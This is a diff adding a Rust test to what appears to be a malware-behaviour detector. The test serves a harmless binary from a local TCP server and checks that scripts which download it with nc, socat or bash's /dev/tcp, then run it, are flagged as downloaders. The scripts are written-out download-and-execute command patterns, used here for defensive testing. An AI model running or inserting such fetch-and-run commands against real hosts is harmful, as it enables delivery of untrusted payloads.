@@ -2451,6 +2451,99 @@ fn inline_programs_that_download_are_downloaders() {
     }
 }
 
+/// A TCP server on 127.0.0.1 that sends `/usr/bin/true`'s bytes to each client and closes:
+/// what a listener serving a payload without HTTP looks like. Returns its port.
+fn raw_payload_server() -> u16 {
+    use std::{io::Write as _, net::TcpListener};
+    let listener = TcpListener::bind("127.0.0.1:0").expect("bind 127.0.0.1");
+    let port = listener.local_addr().expect("local address").port();
+    let body = std::fs::read("/usr/bin/true").expect("true");
+    std::thread::spawn(move || {
+        for stream in listener.incoming() {
+            let Ok(mut stream) = stream else { continue };
+            let _ = stream.write_all(&body);
+        }
+    });
+    port
+}
+
+/// GTFOBins' downloads without curl (docs/EFFICACY.md, "GTFOBins through the programs
+/// installed here"), each a script against a server on 127.0.0.1, the file then run: netcat's
+/// and socat's output into a file (relays), and `cat` copying bash's `/dev/tcp` socket into one
+/// (a filter reading a connected socket). Benign twins: the same download never run, a local
+/// copy run.
+#[test]
+fn relays_and_socket_fed_filters_that_download_are_downloaders() {
+    if !privileged("relays_and_socket_fed_filters_that_download_are_downloaders") {
+        return;
+    }
+    let port = raw_payload_server();
+    let dir = Scratch::new("relaydl");
+    let script = |name: &str, body: &str| {
+        let path = dir.path(name);
+        std::fs::write(&path, format!("#!/bin/bash\n{body}\n")).expect("script");
+        detect(run(Command::new("/bin/bash")
+            .arg(&path)
+            .current_dir(&dir.0)))
+    };
+    let rule_id = "behaviour-download-exec";
+    let mut cases = vec![("nc", format!("timeout 20 nc 127.0.0.1 {port} > f"), "nc")];
+    if Command::new("sh")
+        .args(["-c", "command -v socat"])
+        .stdout(Stdio::null())
+        .status()
+        .is_ok_and(|s| s.success())
+    {
+        cases.push((
+            "socat",
+            format!("timeout 20 socat -u tcp-connect:127.0.0.1:{port} open:f,creat"),
+            "socat",
+        ));
+    } else {
+        eprintln!(
+            "relays_and_socket_fed_filters_that_download_are_downloaders: socat is not installed, its case not run"
+        );
+    }
+    cases.push((
+        "devtcp-cat",
+        format!("bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; cat <&3 > f'"),
+        "/usr/bin/cat",
+    ));
+    for (name, fetch, writer) in cases {
+        let found = script(
+            &format!("{name}.sh"),
+            &format!("rm -f f\n{fetch}\nchmod +x f\n./f"),
+        );
+        let f = of(&found, rule_id);
+        assert_eq!(f.len(), 1, "{name}: {:?}", kinds(&found));
+        assert_eq!(f[0].severity_label, SeverityLabel::High, "{name}");
+        let by = &f[0].context.additional["downloadedBy"];
+        assert!(by.contains(writer), "{name}: downloaded by {by}");
+    }
+    for (name, body) in [
+        (
+            "nc-kept",
+            format!("rm -f f\ntimeout 20 nc 127.0.0.1 {port} > f\nsha256sum f"),
+        ),
+        (
+            "local-copy",
+            "rm -f f\ncat /usr/bin/true > f\nchmod +x f\n./f".to_owned(),
+        ),
+    ] {
+        let found = script(&format!("{name}.sh"), &body);
+        assert!(
+            of(&found, rule_id).is_empty(),
+            "{name}: {:?}",
+            kinds(&found)
+        );
+        assert!(
+            found.iter().all(|f| f.severity_label == SeverityLabel::Low),
+            "{name}: nothing at Medium or above: {:?}",
+            kinds(&found)
+        );
+    }
+}
+
 #[test]
 fn binaries_and_scripts_fetched_by_a_downloader_then_run() {
     if !privileged("binaries_and_scripts_fetched_by_a_downloader_then_run") {
